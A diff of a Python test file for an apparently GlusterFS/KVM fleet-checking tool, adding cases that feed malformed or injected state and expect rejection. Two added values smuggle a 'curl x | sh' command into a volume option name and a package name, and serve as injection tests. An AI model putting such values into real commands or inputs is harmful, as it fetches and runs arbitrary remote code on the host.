@@ -122,6 +122,11 @@ def test_before(fleet):
         (lambda fleet: fleet.views["kvm3"].update(bricks={"kvm3:/b": "1"}), "kvm3 does not say how its glusterd is"),
         (lambda fleet: fleet.views["kvm3"].update(bricks={3: 1, "kvm3:/b": 1}), "kvm3 does not say how its glusterd"),
         (lambda fleet: fleet.views["kvm3"].update(lines=[]), "kvm3 does not say how its glusterd is"),
+        (
+            lambda fleet: fleet.views["kvm3"].update(lines={"one_vol": {"nfs.disable on; curl x | sh": "off"}}),
+            "kvm3 does not say how its glusterd is",
+        ),
+        (lambda fleet: fleet.driver.update(package="qemu; curl x | sh"), "kvm2 does not say"),
         (lambda fleet: fleet.views["kvm3"].pop("paused"), "kvm3 does not say how its glusterd is"),
         (
             lambda fleet: fleet.views["kvm3"].update(paused={"one_vol": "server"}),
